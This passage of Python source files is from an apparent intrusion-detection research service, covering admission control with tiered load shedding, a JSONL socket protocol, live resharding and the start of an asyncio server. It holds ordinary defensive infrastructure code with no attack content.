            global_capacity=args.capacity, per_connection=args.per_connection
        ),
        checkpoint_dir=args.checkpoint_dir,
        checkpoint_interval=args.checkpoint_interval,
        keep_last=args.keep_last,
        dead_letter_path=args.dead_letter,
    )

    pipeline = build_pipeline()
    service = DetectionService(pipeline, config)

    async def run() -> None:
        await service.serve_forever(
            ready=lambda s: print(f"LISTENING {s.port}", flush=True)
        )

    # close() joins worker processes — blocking work that stays outside
    # the event loop (staticcheck: asyncio-blocking).
    try:
        asyncio.run(run())
    finally:
        pipeline.close()
    print(f"STOPPED {service.shutdown_reason}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
