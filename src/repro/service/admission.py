"""Admission control, tiered load shedding, and the retrying client.

The always-on service must bound its memory under a misbehaving or
merely over-eager client: work is admitted against a bounded global
queue (and a per-connection bound, so one connection cannot starve the
rest), and as the queue fills the service degrades in *tiers* rather
than falling over:

``admit``
    Below the shed thresholds everything is accepted verbatim.
``shed-raw``
    Raw monitor-record batches -- the highest-volume, lowest-value
    input (25 M records reduce to 191 K alerts in the paper's Fig. 4)
    -- are dropped whole; pre-normalised alert batches still flow.
``shed-low``
    Additionally, *low-priority* alerts (the vocabulary's BACKGROUND
    lifecycle stage: logins, cron, package installs, ...) are dropped
    from alert batches; attack-stage alerts still flow.
``reject``
    The queue is full (or the connection's slice is): the batch is
    refused outright with a ``retry_after`` hint and **nothing** is
    enqueued -- the client owns the retry, so no data is silently
    lost at this tier.

Every shed record/alert is accounted twice: once in the mirror's
``dropped_raw``/``dropped_alerts`` counters (the pipeline's existing
drop ledger, surfaced in ``TestbedPipeline.summary()``) and once as a
full payload in the :class:`DeadLetterJournal`, so shed traffic can be
audited or replayed after the storm passes.

:class:`ServiceClient` is the blocking client half: JSONL over a
socket, with deterministic exponential backoff (no jitter -- retry
schedules are reproducible in tests) against ``reject`` responses.
"""

from __future__ import annotations

import dataclasses
import json
import socket
import time
from pathlib import Path
from typing import Any, List, Mapping, Optional, Sequence, Tuple

from ..core.alerts import Alert, AlertVocabulary, AttackStage, DEFAULT_VOCABULARY
from ..telemetry.logsource import RawLogRecord
from ..testbed.mirror import TrafficMirror
from .protocol import (
    ProtocolError,
    decode_line,
    encode_message,
    raw_record_to_dict,
)

#: Load-shedding tiers, least to most degraded.
TIERS = ("admit", "shed-raw", "shed-low", "reject")


@dataclasses.dataclass(frozen=True)
class AdmissionLimits:
    """Queue bounds and shed thresholds for the admission controller."""

    #: Maximum batches queued service-wide before outright rejection.
    global_capacity: int = 64
    #: Maximum batches one connection may have queued.
    per_connection: int = 16
    #: Queue fill fraction at which raw batches start being shed.
    shed_raw_fraction: float = 0.5
    #: Queue fill fraction at which low-priority alerts are also shed.
    shed_low_fraction: float = 0.75
    #: Retry hint (seconds) attached to rejections.
    retry_after: float = 0.05

    def __post_init__(self) -> None:
        if self.global_capacity < 1:
            raise ValueError("global_capacity must be >= 1")
        if self.per_connection < 1:
            raise ValueError("per_connection must be >= 1")
        if not 0.0 < self.shed_raw_fraction <= self.shed_low_fraction <= 1.0:
            raise ValueError(
                "need 0 < shed_raw_fraction <= shed_low_fraction <= 1"
            )


@dataclasses.dataclass(frozen=True)
class AdmissionOutcome:
    """One admission decision for one incoming batch."""

    accepted: bool
    tier: str
    #: What survives shedding and should be enqueued (possibly empty).
    admitted: tuple
    #: How many alerts/records were shed from this batch.
    shed: int
    retry_after: float = 0.0


class DeadLetterJournal:
    """Append-only JSONL journal of shed and failed work.

    Every entry records why (``reason``), what kind of payload
    (``kind``), and the full payload itself, so a post-incident replay
    can reconstruct exactly what the service declined to process.
    With no path the journal is memory-only (tests, ephemeral runs).
    """

    def __init__(self, path: Optional[Path] = None) -> None:
        self.path = Path(path) if path is not None else None
        self.entries: List[dict] = []
        if self.path is not None:
            self.path.parent.mkdir(parents=True, exist_ok=True)

    def record(self, reason: str, kind: str, payload: Any) -> None:
        """Append one dead-lettered payload."""
        entry = {"reason": reason, "kind": kind, "payload": payload}
        self.entries.append(entry)
        if self.path is not None:
            with self.path.open("a", encoding="utf-8") as handle:
                handle.write(json.dumps(entry, sort_keys=True) + "\n")

    @property
    def count(self) -> int:
        return len(self.entries)

    @staticmethod
    def read(path: Path) -> List[dict]:
        """Load a journal file back into entry dicts."""
        entries = []
        with Path(path).open("r", encoding="utf-8") as handle:
            for line in handle:
                line = line.strip()
                if line:
                    entries.append(json.loads(line))
        return entries


class AdmissionController:
    """Tiered admission decisions against queue depth, with accounting.

    The controller is pure bookkeeping -- it never touches the queue
    itself.  The server asks for a decision with the current depths;
    shed payloads are charged to the pipeline mirror's drop counters
    and written to the dead-letter journal here, at the moment of the
    decision, so the ledgers agree with what the pipeline never saw.
    """

    def __init__(
        self,
        limits: Optional[AdmissionLimits] = None,
        *,
        vocabulary: Optional[AlertVocabulary] = None,
        mirror: Optional[TrafficMirror] = None,
        dead_letter: Optional[DeadLetterJournal] = None,
    ) -> None:
        self.limits = limits or AdmissionLimits()
        vocabulary = vocabulary or DEFAULT_VOCABULARY
        #: Alert names shed at the ``shed-low`` tier: the vocabulary's
        #: BACKGROUND lifecycle stage (benign operational noise).
        self.low_priority_names = frozenset(
            vocabulary.names_for_stage(AttackStage.BACKGROUND)
        )
        self.mirror = mirror
        self.dead_letter = dead_letter
        #: ``None`` for depth-driven tiers, or a forced tier (the
        #: ``throttle`` op) for deterministic shedding in tests/ops.
        self.forced_mode: Optional[str] = None
        # Accounting.
        self.admitted_batches = 0
        self.admitted_alerts = 0
        self.admitted_records = 0
        self.rejected_batches = 0
        self.shed_raw_records = 0
        self.shed_low_priority_alerts = 0

    # -- tier selection --------------------------------------------------
    def tier(self, queue_depth: int, connection_depth: int) -> str:
        """The operative tier for the given depths."""
        if self.forced_mode is not None:
            return self.forced_mode
        limits = self.limits
        if (
            queue_depth >= limits.global_capacity
            or connection_depth >= limits.per_connection
        ):
            return "reject"
        if queue_depth >= limits.global_capacity * limits.shed_low_fraction:
            return "shed-low"
        if queue_depth >= limits.global_capacity * limits.shed_raw_fraction:
            return "shed-raw"
        return "admit"

    # -- decisions -------------------------------------------------------
    def admit_alerts(
        self,
        alerts: Sequence[Alert],
        queue_depth: int,
        connection_depth: int,
    ) -> AdmissionOutcome:
        """Decide one pre-normalised alert batch."""
        tier = self.tier(queue_depth, connection_depth)
        if tier == "reject":
            self.rejected_batches += 1
            return AdmissionOutcome(
                False, tier, (), 0, retry_after=self.limits.retry_after
            )
        admitted: Tuple[Alert, ...] = tuple(alerts)
        shed = 0
        if tier == "shed-low":
            kept = []
            for alert in alerts:
                if alert.name in self.low_priority_names:
                    shed += 1
                    self._shed_alert(alert)
                else:
                    kept.append(alert)
            admitted = tuple(kept)
        self.admitted_batches += 1
        self.admitted_alerts += len(admitted)
        return AdmissionOutcome(True, tier, admitted, shed)

    def admit_raw(
        self,
        records: Sequence[RawLogRecord],
        queue_depth: int,
        connection_depth: int,
    ) -> AdmissionOutcome:
        """Decide one raw monitor-record batch."""
        tier = self.tier(queue_depth, connection_depth)
        if tier == "reject":
            self.rejected_batches += 1
            return AdmissionOutcome(
                False, tier, (), 0, retry_after=self.limits.retry_after
            )
        if tier in ("shed-raw", "shed-low"):
            for record in records:
                self._shed_raw(record)
            self.admitted_batches += 1
            return AdmissionOutcome(True, tier, (), len(records))
        self.admitted_batches += 1
        self.admitted_records += len(records)
        return AdmissionOutcome(True, tier, tuple(records), 0)

    # -- shed accounting -------------------------------------------------
    def _shed_alert(self, alert: Alert) -> None:
        self.shed_low_priority_alerts += 1
        if self.mirror is not None:
            self.mirror.stats.dropped_alerts += 1
        if self.dead_letter is not None:
            self.dead_letter.record("shed-low-priority", "alert", alert.to_dict())

    def _shed_raw(self, record: RawLogRecord) -> None:
        self.shed_raw_records += 1
        if self.mirror is not None:
            self.mirror.stats.dropped_raw += 1
        if self.dead_letter is not None:
            self.dead_letter.record("shed-raw", "raw", raw_record_to_dict(record))

    def snapshot(self) -> dict:
        """Counters for the ``stats`` op."""
        return {
            "mode": self.forced_mode or "auto",
            "admitted_batches": self.admitted_batches,
            "admitted_alerts": self.admitted_alerts,
            "admitted_records": self.admitted_records,
            "rejected_batches": self.rejected_batches,
            "shed_raw_records": self.shed_raw_records,
            "shed_low_priority_alerts": self.shed_low_priority_alerts,
        }


# ----------------------------------------------------------------------
# Client side
# ----------------------------------------------------------------------
class ServiceError(RuntimeError):
    """The service replied with an error."""

    def __init__(self, kind: str, message: str) -> None:
        super().__init__(f"{kind}: {message}")
        self.kind = kind


class ServiceOverloadedError(ServiceError):
    """An admission ``reject``; carries the server's retry hint."""

    def __init__(self, message: str, retry_after: float) -> None:
        super().__init__("overloaded", message)
        self.retry_after = retry_after


@dataclasses.dataclass(frozen=True)
class BackoffPolicy:
    """Deterministic exponential backoff (no jitter: reproducible)."""

    max_retries: int = 8
    base_delay: float = 0.02
    factor: float = 2.0
    max_delay: float = 1.0

    def delay(self, attempt: int) -> float:
        """Sleep before retry ``attempt`` (0-based)."""
        return min(self.max_delay, self.base_delay * self.factor**attempt)


class ServiceClient:
    """Blocking JSONL client with overload retry.

    One request/one reply, in order; ``send_alerts``/``send_raw``
    retry rejected batches with exponential backoff (the server sheds
    or rejects, the client persists, and the stream arrives complete
    and in order once pressure clears -- the replay half of the
    shed-then-replay contract).
    """

    def __init__(
        self,
        host: str,
        port: int,
        *,
        timeout: float = 60.0,
        backoff: Optional[BackoffPolicy] = None,
    ) -> None:
        self.backoff = backoff or BackoffPolicy()
        self._sock = socket.create_connection((host, port), timeout=timeout)
        self._file = self._sock.makefile("rb")
        self._seq = 0

    # -- plumbing --------------------------------------------------------
    def request(self, payload: Mapping[str, Any]) -> dict:
        """Send one request and return its decoded success reply."""
        self._seq += 1
        self._sock.sendall(encode_message(payload))
        line = self._file.readline()
        if not line:
            raise ServiceError("disconnected", "server closed the connection")
        try:
            reply = decode_line(line)
        except ProtocolError as exc:
            raise ServiceError("protocol", str(exc)) from exc
        if reply.get("ok"):
            return reply
        kind = str(reply.get("error", "unknown"))
        message = str(reply.get("message", ""))
        if kind == "overloaded":
            raise ServiceOverloadedError(
                message, float(reply.get("retry_after", 0.0))
            )
        raise ServiceError(kind, message)

    def _request_with_retry(self, payload: Mapping[str, Any]) -> dict:
        attempt = 0
        while True:
            try:
                return self.request(payload)
            except ServiceOverloadedError as exc:
                if attempt >= self.backoff.max_retries:
                    raise
                time.sleep(max(exc.retry_after, self.backoff.delay(attempt)))
                attempt += 1

    # -- operations ------------------------------------------------------
    def hello(self) -> dict:
        return self.request({"op": "hello"})

    def ping(self) -> dict:
        return self.request({"op": "ping"})

    def send_alerts(self, alerts: Sequence[Alert]) -> dict:
        """Ingest one alert batch, retrying through overload."""
        return self._request_with_retry(
            {"op": "batch", "alerts": [alert.to_dict() for alert in alerts]}
        )

    def send_raw(self, records: Sequence[RawLogRecord]) -> dict:
        """Ingest one raw-record batch, retrying through overload."""
        return self._request_with_retry(
            {"op": "raw", "records": [raw_record_to_dict(r) for r in records]}
        )

    def control(self, verb: str, entity: str = "") -> dict:
        return self.request({"op": "control", "verb": verb, "entity": entity})

    def reshard(self, n_shards: int) -> dict:
        return self.request({"op": "reshard", "n_shards": int(n_shards)})

    def drain(self) -> dict:
        return self.request({"op": "drain"})

    def checkpoint(self) -> dict:
        return self.request({"op": "checkpoint"})

    def stats(self) -> dict:
        return self.request({"op": "stats"})

    def detections(self, since: int = 0) -> dict:
        return self.request({"op": "detections", "since": int(since)})

    def results(self) -> dict:
        return self.request({"op": "results"})

    def throttle(self, mode: str) -> dict:
        return self.request({"op": "throttle", "mode": mode})

    # -- lifecycle -------------------------------------------------------
    def close(self) -> None:
        try:
            self._file.close()
        finally:
            self._sock.close()

    def __enter__(self) -> "ServiceClient":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()


__all__ = [
    "TIERS",
    "AdmissionLimits",
    "AdmissionOutcome",
    "AdmissionController",
    "DeadLetterJournal",
    "BackoffPolicy",
    "ServiceError",
    "ServiceOverloadedError",
    "ServiceClient",
]
