"""JSONL wire protocol for the always-on detection service.

The service speaks newline-delimited JSON over a plain TCP socket: each
request is one JSON object on one line, each reply is one JSON object
on the next line, strictly request/reply in order per connection.  The
framing is deliberately primitive -- any language's socket + JSON
libraries are a complete client -- and deterministic: messages are
encoded with sorted keys and compact separators, so identical payloads
are identical bytes.

Requests carry an ``op`` plus op-specific fields:

=============  ====================================================
``hello``      Service identity / shard shape handshake.
``ping``       Liveness probe.
``batch``      ``alerts``: pre-normalised alert dicts to ingest.
``raw``        ``records``: raw monitor-record dicts to ingest.
``control``    ``verb`` (``reset_entity``/``reset``/``reopen``) and
               optional ``entity`` -- the pipeline's detector
               controls, applied at this position in the stream.
``reshard``    ``n_shards``: live N->M reshard; replies when done.
``drain``      Barrier: replies once everything enqueued before it
               has been fully processed.
``checkpoint`` Barrier + durable checkpoint; replies with the path.
``stats``      Service / pipeline / latency counters snapshot.
``detections`` ``since``: primary-detector detections from index.
``results``    The full bit-identity surface (detections, log,
               notifications, actions, compared counters).
``throttle``   ``mode``: force an admission tier (testing/ops).
=============  ====================================================

Replies are ``{"ok": true, "seq": n, ...}`` or ``{"ok": false,
"seq": n, "error": kind, "message": str}`` (overload rejections add
``retry_after`` seconds).  ``seq`` echoes the 1-based position of the
request on its connection.

This module also owns the JSON serialisers for the pipeline's value
types (alerts, raw records, detections, notifications, response
records): the service and its offline reference serialise through the
same functions, so "bit-identical over the socket" is checkable as
plain ``==`` on the decoded structures.
"""

from __future__ import annotations

import dataclasses
import json
from typing import Any, Mapping, Optional, Sequence, Tuple

from ..core.alerts import Alert
from ..core.attack_tagger import Detection, HiddenState
from ..telemetry.logsource import MonitorKind, RawLogRecord
from ..testbed.responder import OperatorNotification, ResponseAction, ResponseRecord

#: Protocol revision, reported by ``hello`` and checked by clients.
PROTOCOL_VERSION = 1

#: Every operation the server accepts.
OPS = (
    "hello",
    "ping",
    "batch",
    "raw",
    "control",
    "reshard",
    "drain",
    "checkpoint",
    "stats",
    "detections",
    "results",
    "throttle",
)

#: Detector-control verbs the ``control`` op accepts.
CONTROL_VERBS = ("reset_entity", "reset", "reopen")

#: Admission modes the ``throttle`` op accepts (``open`` releases).
THROTTLE_MODES = ("open", "shed-raw", "shed-low", "reject")

#: Hard bound on one request line; longer lines are a protocol error.
MAX_LINE_BYTES = 8 * 1024 * 1024


class ProtocolError(ValueError):
    """A malformed request line / unknown op / bad field."""


# ----------------------------------------------------------------------
# Framing
# ----------------------------------------------------------------------
def encode_message(payload: Mapping[str, Any]) -> bytes:
    """One JSONL frame: compact, key-sorted JSON plus the newline."""
    return (
        json.dumps(payload, separators=(",", ":"), sort_keys=True) + "\n"
    ).encode("utf-8")


def decode_line(line: bytes) -> dict:
    """Parse one received line into a JSON object (dict)."""
    if len(line) > MAX_LINE_BYTES:
        raise ProtocolError(f"line exceeds {MAX_LINE_BYTES} bytes")
    try:
        data = json.loads(line.decode("utf-8"))
    except (UnicodeDecodeError, json.JSONDecodeError) as exc:
        raise ProtocolError(f"not a JSON line: {exc}") from exc
    if not isinstance(data, dict):
        raise ProtocolError(f"expected a JSON object, got {type(data).__name__}")
    return data


# ----------------------------------------------------------------------
# Requests
# ----------------------------------------------------------------------
@dataclasses.dataclass(frozen=True)
class Request:
    """A parsed, validated client request."""

    op: str
    alerts: Tuple[Alert, ...] = ()
    records: Tuple[RawLogRecord, ...] = ()
    verb: str = ""
    entity: str = ""
    n_shards: int = 0
    since: int = 0
    mode: str = ""


def parse_request(data: Mapping[str, Any]) -> Request:
    """Validate a decoded request object into a :class:`Request`."""
    op = data.get("op")
    if op not in OPS:
        raise ProtocolError(f"unknown op {op!r}")
    try:
        if op == "batch":
            alerts = data.get("alerts")
            if not isinstance(alerts, list):
                raise ProtocolError("batch needs an 'alerts' list")
            return Request(op=op, alerts=tuple(Alert.from_dict(a) for a in alerts))
        if op == "raw":
            records = data.get("records")
            if not isinstance(records, list):
                raise ProtocolError("raw needs a 'records' list")
            return Request(
                op=op, records=tuple(raw_record_from_dict(r) for r in records)
            )
        if op == "control":
            verb = data.get("verb")
            if verb not in CONTROL_VERBS:
                raise ProtocolError(f"unknown control verb {verb!r}")
            entity = str(data.get("entity", ""))
            if verb == "reset_entity" and not entity:
                raise ProtocolError("reset_entity needs an 'entity'")
            return Request(op=op, verb=verb, entity=entity)
        if op == "reshard":
            count = int(data.get("n_shards", 0))
            if count < 1:
                raise ProtocolError("reshard needs n_shards >= 1")
            return Request(op=op, n_shards=count)
        if op == "detections":
            return Request(op=op, since=max(0, int(data.get("since", 0))))
        if op == "throttle":
            mode = data.get("mode")
            if mode not in THROTTLE_MODES:
                raise ProtocolError(f"unknown throttle mode {mode!r}")
            return Request(op=op, mode=mode)
    except ProtocolError:
        raise
    except (KeyError, TypeError, ValueError) as exc:
        raise ProtocolError(f"malformed {op} request: {exc}") from exc
    return Request(op=op)


# ----------------------------------------------------------------------
# Responses
# ----------------------------------------------------------------------
def ok_response(result: Mapping[str, Any], seq: int) -> dict:
    """A success reply: the result fields plus ``ok``/``seq``."""
    payload = dict(result)
    payload["ok"] = True
    payload["seq"] = seq
    return payload


def error_response(
    kind: str, message: str, seq: int, *, retry_after: Optional[float] = None
) -> dict:
    """A failure reply; ``overloaded`` rejections carry ``retry_after``."""
    payload: dict[str, Any] = {
        "ok": False,
        "seq": seq,
        "error": kind,
        "message": message,
    }
    if retry_after is not None:
        payload["retry_after"] = float(retry_after)
    return payload


# ----------------------------------------------------------------------
# Value-type serialisers (shared by server, client, and offline oracle)
# ----------------------------------------------------------------------
def raw_record_to_dict(record: RawLogRecord) -> dict:
    """JSON form of a raw monitor record (enum carried by value)."""
    return {
        "timestamp": record.timestamp,
        "monitor": record.monitor.value,
        "host": record.host,
        "message": record.message,
        "fields": dict(record.fields),
    }


def raw_record_from_dict(data: Mapping[str, Any]) -> RawLogRecord:
    """Inverse of :func:`raw_record_to_dict`."""
    return RawLogRecord(
        timestamp=float(data["timestamp"]),
        monitor=MonitorKind(str(data["monitor"])),
        host=str(data["host"]),
        message=str(data.get("message", "")),
        fields=dict(data.get("fields", {})),
    )


def detection_to_dict(detection: Detection) -> dict:
    """JSON form of a detection; every field, tuples as lists."""
    return {
        "entity": detection.entity,
        "timestamp": detection.timestamp,
        "alert_index": detection.alert_index,
        "trigger": detection.trigger.to_dict(),
        "state": int(detection.state),
        "confidence": detection.confidence,
        "matched_patterns": list(detection.matched_patterns),
        "state_trajectory": list(detection.state_trajectory),
    }


def detection_from_dict(data: Mapping[str, Any]) -> Detection:
    """Inverse of :func:`detection_to_dict`."""
    return Detection(
        entity=str(data["entity"]),
        timestamp=float(data["timestamp"]),
        alert_index=int(data["alert_index"]),
        trigger=Alert.from_dict(data["trigger"]),
        state=HiddenState(int(data["state"])),
        confidence=float(data["confidence"]),
        matched_patterns=tuple(data.get("matched_patterns", ())),
        state_trajectory=tuple(int(s) for s in data.get("state_trajectory", ())),
    )


def notification_to_dict(notification: OperatorNotification) -> dict:
    """JSON form of an operator notification."""
    return {
        "timestamp": notification.timestamp,
        "entity": notification.entity,
        "summary": notification.summary,
        "severity": notification.severity,
        "detection": detection_to_dict(notification.detection),
    }


def response_record_to_dict(record: ResponseRecord) -> dict:
    """JSON form of a response record (action enum by value)."""
    return {
        "timestamp": record.timestamp,
        "action": record.action.value,
        "target": record.target,
        "detail": record.detail,
    }


def serialize_results(
    detections: Sequence[Detection],
    detection_log: Sequence[Tuple[str, Detection]],
    notifications: Sequence[OperatorNotification],
    actions: Sequence[ResponseRecord],
    counters: Mapping[str, float],
) -> dict:
    """The full bit-identity surface, in its canonical JSON shape.

    Both the live service (``results`` op) and the offline reference
    replay are serialised through this one function, so a socket run
    and its offline reference can be compared with plain ``==`` after a
    JSON round-trip (floats round-trip exactly; ``inf`` survives via
    the JSON ``Infinity`` literal both Python codecs accept).
    """
    return {
        "detections": [detection_to_dict(d) for d in detections],
        "detection_log": [[name, detection_to_dict(d)] for name, d in detection_log],
        "notifications": [notification_to_dict(n) for n in notifications],
        "actions": [response_record_to_dict(r) for r in actions],
        "counters": dict(counters),
    }


__all__ = [
    "PROTOCOL_VERSION",
    "OPS",
    "CONTROL_VERBS",
    "THROTTLE_MODES",
    "MAX_LINE_BYTES",
    "ProtocolError",
    "encode_message",
    "decode_line",
    "Request",
    "parse_request",
    "ok_response",
    "error_response",
    "raw_record_to_dict",
    "raw_record_from_dict",
    "detection_to_dict",
    "detection_from_dict",
    "notification_to_dict",
    "response_record_to_dict",
    "serialize_results",
]
