"""Live-reshard coordination for the always-on service.

The mechanics of moving per-entity detector state from N shards to M
live in :meth:`repro.testbed.sharding.ShardedDetectorPool.reshard`
(state migration, dead-worker rebuild, telemetry retirement) and
:meth:`repro.testbed.pipeline.TestbedPipeline.reshard` (deferral to a
submission boundary, facade refresh).  This module is the service-side
policy wrapper around them: bounds validation, wall-clock timing, and
a JSON-ready operations history the ``stats`` op exposes -- operators
see every transition the running service performed, with the per-pool
:class:`~repro.testbed.sharding.ReshardEvent` audit attached.

The coordinator is always invoked from the service's single consumer
with the pipeline quiesced (no in-flight detection batches), so the
underlying ``pipeline.reshard`` applies immediately rather than
deferring, and the events it reports are the ones this call caused.
"""

from __future__ import annotations

import dataclasses
import time
from typing import List

from ..testbed.pipeline import TestbedPipeline


class ReshardCoordinator:
    """Validates, times, and records live reshards of one pipeline."""

    def __init__(
        self,
        pipeline: TestbedPipeline,
        *,
        min_shards: int = 1,
        max_shards: int = 64,
    ) -> None:
        if not 1 <= min_shards <= max_shards:
            raise ValueError("need 1 <= min_shards <= max_shards")
        self.pipeline = pipeline
        self.min_shards = min_shards
        self.max_shards = max_shards
        #: One JSON-ready entry per reshard call, oldest first.
        self.history: List[dict] = []

    def reshard(self, n_shards: int) -> dict:
        """Drive one live reshard; return (and record) its summary."""
        count = int(n_shards)
        if not self.min_shards <= count <= self.max_shards:
            raise ValueError(
                f"n_shards {count} outside the service's "
                f"[{self.min_shards}, {self.max_shards}] bounds"
            )
        previous = self.pipeline.n_shards
        if count == previous:
            entry = {
                "from": previous,
                "to": count,
                "noop": True,
                "seconds": 0.0,
                "events": [],
            }
            self.history.append(entry)
            return entry
        marks = {
            name: len(pool.reshard_log)
            for name, pool in self.pipeline.detector_pools.items()
        }
        started = time.perf_counter()
        self.pipeline.reshard(count)
        seconds = time.perf_counter() - started
        events = []
        for name, pool in self.pipeline.detector_pools.items():
            for event in list(pool.reshard_log)[marks[name] :]:
                record = dataclasses.asdict(event)
                record["pool"] = name
                record["rebuilt_shards"] = list(record["rebuilt_shards"])
                events.append(record)
        entry = {
            "from": previous,
            "to": count,
            "noop": False,
            "seconds": seconds,
            "events": events,
        }
        self.history.append(entry)
        return entry


__all__ = ["ReshardCoordinator"]
