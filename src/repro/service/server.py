"""The always-on asyncio detection service.

:class:`DetectionService` turns a :class:`~repro.testbed.pipeline
.TestbedPipeline` into a long-running network service: JSONL requests
over TCP (see :mod:`repro.service.protocol`), admission control and
tiered load shedding at the socket edge (:mod:`repro.service
.admission`), live N->M resharding (:mod:`repro.service.resharding`),
and a drain-then-checkpoint shutdown on SIGTERM/SIGINT.

Architecture -- one event loop, one consumer::

    conn 1 --\\
    conn 2 ---+--> admission --> bounded FIFO --> consumer --> pipeline
    conn N --/       (ack at enqueue)             (single)

* Every connection gets a reader coroutine that parses requests,
  asks the admission controller for a decision, and **acks at
  enqueue**: a success reply to ``batch``/``raw``/``control`` means
  "this work is in the global FIFO and will be applied in this
  order", not "it has been processed".  Barrier ops (``drain``,
  ``checkpoint``, ``reshard``) ride the same FIFO as markers and
  reply only once the consumer reaches them.
* A single consumer coroutine drains the FIFO and drives the
  pipeline through its two-phase API (``submit_alerts`` /
  ``submit_raw`` / ``collect_detections``), keeping at most one
  detection batch in flight: when more work is queued the next
  batch's normalise/filter prep overlaps the shard workers chewing
  the previous one (the overlapped drivers' schedule, so outputs are
  bit-identical to the batch-synchronous reference); when the queue
  is empty the batch is collected immediately, so a lockstep client
  observes true end-to-end latency.
* Because one consumer owns the pipeline, global FIFO order **is**
  stream order regardless of how many connections interleave -- the
  determinism of the offline drivers carries over to the socket.

Fault domains: a shard-worker failure surfacing at collect time
(``ShardWorkerError`` under ``restart_policy="raise"``; exhausted
budget ``ShardRecoveryError`` under ``"restore"``) is contained to the
batch that hit it -- the batch is dead-lettered with the error detail
and the service keeps serving.  With ``restart_policy="restore"`` the
pool heals worker deaths underneath the service and no batch is lost.

SIGTERM/SIGINT trigger graceful shutdown: stop accepting connections,
process everything already admitted (drain), take a final checkpoint
(when a store is configured), then exit -- so an orderly terminate
never loses acknowledged work.
"""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import signal
import threading
import time
import traceback
from collections import deque
from pathlib import Path
from typing import Callable, Deque, Dict, List, Optional, Set, Tuple

from ..fuzz.oracle import COMPARED_COUNTERS
from ..testbed.checkpoint import CheckpointStore
from ..testbed.pipeline import TestbedPipeline
from ..testbed.sharding import ShardRecoveryError, ShardWorkerError
from .admission import (
    AdmissionController,
    AdmissionLimits,
    DeadLetterJournal,
    ServiceClient,
)
from .protocol import (
    MAX_LINE_BYTES,
    PROTOCOL_VERSION,
    ProtocolError,
    Request,
    decode_line,
    detection_to_dict,
    encode_message,
    error_response,
    ok_response,
    parse_request,
    serialize_results,
)
from .resharding import ReshardCoordinator


@dataclasses.dataclass
class ServiceConfig:
    """Tunables for one :class:`DetectionService`."""

    host: str = "127.0.0.1"
    #: ``0`` binds an ephemeral port (reported by :attr:`DetectionService.port`).
    port: int = 0
    limits: AdmissionLimits = dataclasses.field(default_factory=AdmissionLimits)
    #: Directory for the numbered checkpoint store; ``None`` disables
    #: both the periodic ticks and the final shutdown checkpoint.
    checkpoint_dir: Optional[Path] = None
    #: Seconds between periodic checkpoint ticks; ``0`` disables them.
    checkpoint_interval: float = 0.0
    keep_last: int = 3
    #: Dead-letter journal file; ``None`` keeps the journal in memory.
    dead_letter_path: Optional[Path] = None
    #: Ring-buffer size for the latency percentile windows.
    latency_window: int = 2048


@dataclasses.dataclass
class _WorkItem:
    """One FIFO entry: an ingest batch, a control, or a barrier marker."""

    kind: str  # alerts | raw | control | reshard | checkpoint | drain | detections | stop
    alerts: tuple = ()
    records: tuple = ()
    verb: str = ""
    entity: str = ""
    n_shards: int = 0
    since: int = 0
    conn_id: int = -1
    enqueued: float = 0.0
    stage_before: dict = dataclasses.field(default_factory=dict)
    future: Optional[asyncio.Future] = None


def percentile_summary(samples: Deque[float]) -> dict:
    """Nearest-rank percentiles over a latency window (seconds)."""
    if not samples:
        return {"count": 0, "p50": 0.0, "p90": 0.0, "p99": 0.0, "max": 0.0, "mean": 0.0}
    ordered = sorted(samples)
    count = len(ordered)

    def rank(q: float) -> float:
        return ordered[min(count - 1, max(0, int(q * count + 0.5) - 1))]

    return {
        "count": count,
        "p50": rank(0.50),
        "p90": rank(0.90),
        "p99": rank(0.99),
        "max": ordered[-1],
        "mean": sum(ordered) / count,
    }


class DetectionService:
    """Asyncio front-end owning one :class:`TestbedPipeline`."""

    def __init__(
        self, pipeline: TestbedPipeline, config: Optional[ServiceConfig] = None
    ) -> None:
        self.pipeline = pipeline
        self.config = config or ServiceConfig()
        self.dead_letter = DeadLetterJournal(self.config.dead_letter_path)
        self.admission = AdmissionController(
            self.config.limits,
            vocabulary=pipeline.vocabulary,
            mirror=pipeline.mirror,
            dead_letter=self.dead_letter,
        )
        self.reshards = ReshardCoordinator(pipeline)
        self.store: Optional[CheckpointStore] = None
        if self.config.checkpoint_dir is not None:
            self.store = CheckpointStore(
                self.config.checkpoint_dir, keep_last=self.config.keep_last
            )
        # Consumer state.
        self._queue: "asyncio.Queue[_WorkItem]" = asyncio.Queue()
        self._inflight: Optional[_WorkItem] = None
        # Telemetry.
        window = self.config.latency_window
        self._e2e_latency: Deque[float] = deque(maxlen=window)
        self._stage_latency: Dict[str, Deque[float]] = {}
        self.batches_processed = 0
        self.alerts_processed = 0
        self.records_processed = 0
        self.detections_emitted = 0
        self.failed_batches = 0
        self.control_failures = 0
        self.consumer_errors = 0
        self.connections_total = 0
        self.checkpoints_written = 0
        self.shutdown_reason = ""
        # Lifecycle.
        self.port: Optional[int] = None
        self._loop: Optional[asyncio.AbstractEventLoop] = None
        self._server: Optional[asyncio.AbstractServer] = None
        self._consumer_task: Optional[asyncio.Task] = None
        self._ticker_task: Optional[asyncio.Task] = None
        self._conn_tasks: Set[asyncio.Task] = set()
        self._conn_depth: Dict[int, int] = {}
        self._next_conn_id = 0
        self._stopping = False
        self._stopped: Optional[asyncio.Event] = None

    # ------------------------------------------------------------------
    # Lifecycle
    # ------------------------------------------------------------------
    async def start(self) -> None:
        """Bind the listener and start the consumer."""
        self._loop = asyncio.get_running_loop()
        self._stopped = asyncio.Event()
        # StreamReader's default 64 KiB limit would reset any
        # in-contract request above it before decode_line ever saw the
        # line: size the buffer to the protocol bound (plus slack for
        # the newline) so MAX_LINE_BYTES is the one operative limit.
        self._server = await asyncio.start_server(
            self._on_connection,
            self.config.host,
            self.config.port,
            limit=MAX_LINE_BYTES + 1024,
        )
        self.port = self._server.sockets[0].getsockname()[1]
        self._consumer_task = asyncio.create_task(self._consume())
        self._consumer_task.add_done_callback(self._on_consumer_exit)
        if self.store is not None and self.config.checkpoint_interval > 0:
            self._ticker_task = asyncio.create_task(self._checkpoint_ticker())

    async def serve_forever(
        self,
        *,
        install_signal_handlers: bool = True,
        ready: Optional[Callable[["DetectionService"], None]] = None,
    ) -> None:
        """Start, announce readiness, and run until shut down."""
        await self.start()
        if install_signal_handlers:
            for signum in (signal.SIGTERM, signal.SIGINT):
                try:
                    self._loop.add_signal_handler(
